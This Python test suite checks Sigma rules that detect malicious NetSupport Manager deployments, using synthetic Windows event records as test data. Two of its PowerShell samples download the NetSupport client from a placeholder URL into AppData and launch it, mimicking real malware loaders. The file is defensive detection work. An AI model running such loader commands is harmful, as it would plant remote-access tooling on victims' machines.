"""Tests of the shipped Sigma rules (plaso_netsupport/rules)."""

import glob
import os
import shutil
import subprocess
import sys
import uuid

import pytest
import yaml

from sigma.collection import SigmaCollection

from plaso_netsupport import knowledge
from plaso_netsupport.sigma import engine

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "sigma_data"))
import evtx_events as ev  # noqa: E402  pylint: disable=wrong-import-position

RULE_FILES = sorted(glob.glob(os.path.join(engine.BUILTIN_RULES_DIRECTORY, "*.yml")))

PF_CLIENT = "C:\\Program Files (x86)\\NetSupport\\NetSupport Manager\\client32.exe"
DROP_CLIENT = "C:\\Users\\bob\\AppData\\Roaming\\Svservices\\client32.exe"
DROP_STUB = "C:\\Users\\bob\\AppData\\Roaming\\Svservices\\remcmdstub.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
IVANTI = "C:\\Program Files (x86)\\NetSupport\\NetInstall\\niinst32.exe"

R_SVC_SYS_NAME = "90c2171b-e7be-47ba-9674-04253ab065cd"
R_SVC_SYS_PATH = "3e93bc71-90d8-4e57-b7bb-1740b91ccc8c"
R_SVC_SEC_NAME = "4c715f1a-3aec-4ee1-9f1b-afd4b9c430ae"
R_SVC_SEC_PATH = "2f0633de-3229-4bcc-9dce-6404356b41b2"
R_SVC_STATE = "2fac8506-f08f-4ebe-993c-68605623f4d6"
R_OUTSIDE_PF = "bf2ca95a-5b65-4b76-afcf-48cba79d38bf"
R_RENAMED = "a64688d0-d645-405b-9cb7-43866d1676bf"
R_PWSH = "44bcf4a0-d618-4936-b6d1-675fa9ceb925"
R_CMD = "6917537f-7811-4e64-9cdc-ee7c58d2316d"
R_SCRIPT = "e9aae485-0082-45b3-9b03-673b874da47d"
R_CLEARED_SEC = "49c6cdc6-4aba-43fc-b18d-2e2beaa8c1cc"
R_CLEARED_SYS = "f340b59f-390d-4249-b725-ef12296ba8ed"

ISC_LOADER = (
    "if (Get-Command Start-BitsTransfer) { foreach ($f in @('client32.exe','NSM.LIC',"
    "'PCICL32.DLL','client32.ini')) { Start-BitsTransfer -Source \"$u/$f\" "
    '-Destination "$env:APPDATA\\Svc\\$f" } }'
)

# (name, event data factory, expected rule ids). xml=False variants check the
# positional `strings` fallback.
POSITIVE_CASES = [
    (
        "7045 name",
        lambda x: ev.Service7045("Client32", f'"{PF_CLIENT}" /* *', xml=x),
        {R_SVC_SYS_NAME, R_SVC_SYS_PATH},
    ),
    (
        "7045 display name",
        lambda x: ev.Service7045("NetSupport Client", "C:\\ns\\svc.exe", xml=x),
        {R_SVC_SYS_NAME},
    ),
    (
        "7045 renamed service, client image",
        lambda x: ev.Service7045("WinUpdate Helper", f'"{DROP_CLIENT}"', xml=x),
        {R_SVC_SYS_PATH},
    ),
    (
        "4697 name",
        lambda x: ev.Service4697("Client32", "C:\\x\\svc.exe", xml=x),
        {R_SVC_SEC_NAME},
    ),
    (
        "4697 image",
        lambda x: ev.Service4697("Updater", DROP_CLIENT, xml=x),
        {R_SVC_SEC_PATH},
    ),
    (
        "7036 display name",
        lambda x: ev.ServiceControl(
            7036,
            ["NetSupport Client", "running"],
            binary="43006C00690065006E007400330032002F0034000000",
            xml=x,
        ),
        {R_SVC_STATE},
    ),
    (
        "7036 key name in binary only",
        lambda x: ev.ServiceControl(
            7036,
            ["Some Service", "stopped"],
            binary="43006C00690065006E007400330032002F0031000000",
            xml=x,
        ),
        {R_SVC_STATE},
    ),
    (
        "7035 control",
        lambda x: ev.ServiceControl(7035, ["NetSupport Client", "start"], xml=x),
        {R_SVC_STATE},
    ),
    (
        "7040 start type",
        lambda x: ev.ServiceControl(
            7040, ["NetSupport Client", "demand start", "auto start", "Client32"], xml=x
        ),
        {R_SVC_STATE},
    ),
    (
        "4688 client in AppData",
        lambda x: ev.Process4688(
            DROP_CLIENT, "C:\\Windows\\System32\\wscript.exe", xml=x
        ),
        {R_OUTSIDE_PF},
    ),
    (
        "4688 v0 client in ProgramData",
        lambda x: ev.Process4688(
            "C:\\ProgramData\\SchCache\\client32.exe", "", xml=x, version=0
        ),
        {R_OUTSIDE_PF},
    ),
    (
        "4688 stub from renamed client",
        lambda x: ev.Process4688(
            "C:\\ProgramData\\SchCache\\remcmdstub.exe",
            "C:\\ProgramData\\SchCache\\presentationhost.exe",
            xml=x,
        ),
        {R_RENAMED},
    ),
    (
        "4688 powershell from client",
        lambda x: ev.Process4688(POWERSHELL, DROP_CLIENT, xml=x),
        {R_PWSH},
    ),
    (
        "4688 pwsh from stub",
        lambda x: ev.Process4688(
            "C:\\Program Files\\PowerShell\\7\\pwsh.exe", DROP_STUB, xml=x
        ),
        {R_PWSH},
    ),
    ("4688 cmd from stub", lambda x: ev.Process4688(CMD, DROP_STUB, xml=x), {R_CMD}),
    (
        "4688 cmd from client in Program Files",
        lambda x: ev.Process4688(CMD, PF_CLIENT, "cmd.exe /C start x", xml=x),
        {R_CMD},
    ),
    ("4104 ISC loader", lambda x: ev.ScriptBlock4104(ISC_LOADER, xml=x), {R_SCRIPT}),
    (
        "4104 unpack",
        lambda x: ev.ScriptBlock4104(
            "Invoke-WebRequest $u -OutFile $z; Expand-Archive $z $d; "
            'Start-Process "$d\\client32.exe"',
            xml=x,
        ),
        {R_SCRIPT},
    ),
    ("1102 cleared", lambda x: ev.LogCleared1102(xml=x), {R_CLEARED_SEC}),
    ("104 cleared", lambda x: ev.LogCleared104(xml=x), {R_CLEARED_SYS}),
]

DECOY_CASES = [
    (
        "7045 TeamViewer",
        lambda x: ev.Service7045(
            "TeamViewer",
            '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"',
            xml=x,
        ),
    ),
    (
        "7045 AnyDesk",
        lambda x: ev.Service7045(
            "AnyDesk Service",
            '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
            xml=x,
        ),
    ),
    (
        "4697 AnyDesk",
        lambda x: ev.Service4697(
            "AnyDesk", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", xml=x
        ),
    ),
    (
        "7045 Ivanti NetInstall",
        lambda x: ev.Service7045("NetInstall Agent", f'"{IVANTI}"', xml=x),
    ),
    (
        "7036 TeamViewer",
        lambda x: ev.ServiceControl(7036, ["TeamViewer", "running"], xml=x),
    ),
    (
        "4688 explorer -> cmd",
        lambda x: ev.Process4688(CMD, "C:\\Windows\\explorer.exe", xml=x),
    ),
    (
        "4688 client in Program Files",
        lambda x: ev.Process4688(
            PF_CLIENT, "C:\\Windows\\System32\\services.exe", xml=x
        ),
    ),
    ("4688 stub from client", lambda x: ev.Process4688(DROP_STUB, DROP_CLIENT, xml=x)),
    (
        "4688 Ivanti NetInstall",
        lambda x: ev.Process4688(IVANTI, "C:\\Windows\\System32\\services.exe", xml=x),
    ),
    (
        "4688 powershell from explorer",
        lambda x: ev.Process4688(POWERSHELL, "C:\\Windows\\explorer.exe", xml=x),
    ),
    (
        "4104 unrelated Invoke-WebRequest",
        lambda x: ev.ScriptBlock4104(
            "Invoke-WebRequest -Uri https://example.org/report.csv -OutFile C:\\temp\\r.csv",
            xml=x,
        ),
    ),
    (
        "4104 NetSupport name without action",
        lambda x: ev.ScriptBlock4104("Get-Process client32 | Select-Object Id", xml=x),
    ),
]


@pytest.fixture(scope="module")
def sigma_engine():
    return engine.SigmaEngine.FromDirectories(
        [engine.BUILTIN_RULES_DIRECTORY]
    ).Compile()


def test_rule_files_exist():
    assert len(RULE_FILES) >= 12


@pytest.mark.parametrize("path", RULE_FILES, ids=os.path.basename)
def test_rule_parses_and_has_metadata(path):
    with open(path, encoding="utf-8") as file_object:
        text = file_object.read()
    rules = SigmaCollection.from_yaml(text).rules
    assert len(rules) == 1
    rule = rules[0]
    assert not rule.errors
    assert rule.id and uuid.UUID(str(rule.id)).version == 4
    assert rule.level is not None
    assert rule.falsepositives and rule.references and rule.description
    techniques = knowledge.Load().data["techniques"]
    attack_tags = [tag.name for tag in rule.tags if tag.namespace == "attack"]
    technique_tags = [name for name in attack_tags if name.startswith("t")]
    tactic_tags = [name for name in attack_tags if not name.startswith("t")]
    assert technique_tags and tactic_tags
    for name in technique_tags:
        assert name.upper() in techniques, f"{name} missing from knowledge techniques"


def test_rule_ids_unique(sigma_engine):
    ids = [rule.id for rule in sigma_engine.rules]
    assert len(ids) == len(set(ids)) == len(RULE_FILES)
    assert sigma_engine.problems == []


def test_sigma_check_offline(tmp_path):
    sigma_cli = shutil.which("sigma") or os.path.join(
        os.path.dirname(sys.executable), "sigma"
    )
    if not os.path.exists(sigma_cli):
        pytest.skip("sigma-cli is not installed (pip install plaso-netsupport[test])")
    environment = dict(os.environ)
    # No network: any download attempt fails fast instead of passing silently.
    environment.update(
        {
            "HOME": str(tmp_path),
            "XDG_CACHE_HOME": str(tmp_path),
            "HTTP_PROXY": "http://127.0.0.1:9",
            "HTTPS_PROXY": "http://127.0.0.1:9",
            "http_proxy": "http://127.0.0.1:9",
            "https_proxy": "http://127.0.0.1:9",
            "NO_PROXY": "",
            "no_proxy": "",
        }
    )
    result = subprocess.run(
        [
            sigma_cli,
            "check",
            "--fail-on-error",
            "--fail-on-issues",
            "-x",
            "attacktag",
            "-x",
            "d3_fendtag",
            engine.BUILTIN_RULES_DIRECTORY,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=environment,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Found 0 errors, 0 condition errors and 0 issues" in result.stdout


@pytest.mark.parametrize("xml", [True, False], ids=["xml", "strings"])
@pytest.mark.parametrize(
    "name,factory,expected", POSITIVE_CASES, ids=[case[0] for case in POSITIVE_CASES]
)
def test_rule_fires(sigma_engine, name, factory, expected, xml):
    del name
    matches = sigma_engine.MatchEventData(factory(xml))
    assert {match.rule_id for match in matches} == expected


@pytest.mark.parametrize("xml", [True, False], ids=["xml", "strings"])
@pytest.mark.parametrize(
    "name,factory", DECOY_CASES, ids=[case[0] for case in DECOY_CASES]
)
def test_rule_ignores_decoy(sigma_engine, name, factory, xml):
    del name
    assert sigma_engine.MatchEventData(factory(xml)) == []


def test_every_rule_has_a_positive_case(sigma_engine):
    covered = set().union(*(case[2] for case in POSITIVE_CASES))
    assert covered == {rule.id for rule in sigma_engine.rules}


def test_sysmon_process_creation(sigma_engine):
    renamed = ev.Sysmon1(
        "C:\\ProgramData\\u\\Updatesystem.exe",
        "C:\\Windows\\explorer.exe",
        "client32.exe",
    )
    assert {m.rule_id for m in sigma_engine.MatchEventData(renamed)} == {
        R_RENAMED,
        R_OUTSIDE_PF,
    }
    legit = ev.Sysmon1(PF_CLIENT, "C:\\Windows\\System32\\services.exe", "client32.exe")
    assert sigma_engine.MatchEventData(legit) == []


def test_match_labels(sigma_engine):
    matches = sigma_engine.MatchEventData(ev.Service7045("Client32", f'"{PF_CLIENT}"'))
    by_id = {match.rule_id: match for match in matches}
    match = by_id[R_SVC_SYS_NAME]
    assert match.labels == [
        "netsupport",
        "attack_t1543",
        "attack_t1543_003",
        "sigma_" + R_SVC_SYS_NAME.replace("-", "_"),
    ]
    assert match.builtin and not match.context_required and match.level == "medium"
    for match in matches:
        for label in match.labels:
            assert label.replace("_", "").isalnum()


def test_log_cleared_needs_context(sigma_engine):
    for event_data in (ev.LogCleared1102(), ev.LogCleared104()):
        (match,) = sigma_engine.MatchEventData(event_data)
        assert match.context_required
        assert "attack_t1070_001" in match.labels
    others = [rule for rule in sigma_engine.rules if rule.context_required]
    assert {rule.id for rule in others} == {R_CLEARED_SEC, R_CLEARED_SYS}


def test_knowledge_techniques_are_one_line_entries():
    # The rules' techniques must be in the knowledge file (single source of truth).
    with open(knowledge.KNOWLEDGE_FILE, encoding="utf-8") as file_object:
        data = yaml.safe_load(file_object)
    for rule in engine.SigmaEngine.FromDirectories(
        [engine.BUILTIN_RULES_DIRECTORY]
    ).rules:
        for technique in rule.techniques:
            assert technique in data["techniques"]


def _RuleValues(file_name, field_name):
    """Returns the values a shipped rule lists for a field, in any selection."""
    import yaml  # pylint: disable=import-outside-toplevel

    path = os.path.join(engine.BUILTIN_RULES_DIRECTORY, file_name)
    with open(path, encoding="utf-8") as file_object:
        detection = yaml.safe_load(file_object)["detection"]
    values = set()
    for selection in detection.values():
        if isinstance(selection, dict):
            for key, value in selection.items():
                if key.split("|")[0] == field_name:
                    values.update(value if isinstance(value, list) else [value])
    return values


def test_service_rules_cover_the_knowledge_services():
    """Adding a service to the knowledge file without the rules fails here."""
    services = knowledge.Load().services
    expected = {service["name"] for service in services} | {
        service["display_name"] for service in services
    }
    for file_name, field_name in (
        ("netsupport_service_install_system_name.yml", "ServiceName"),
        ("netsupport_service_install_security_name.yml", "ServiceName"),
    ):
        assert expected <= _RuleValues(file_name, field_name), file_name
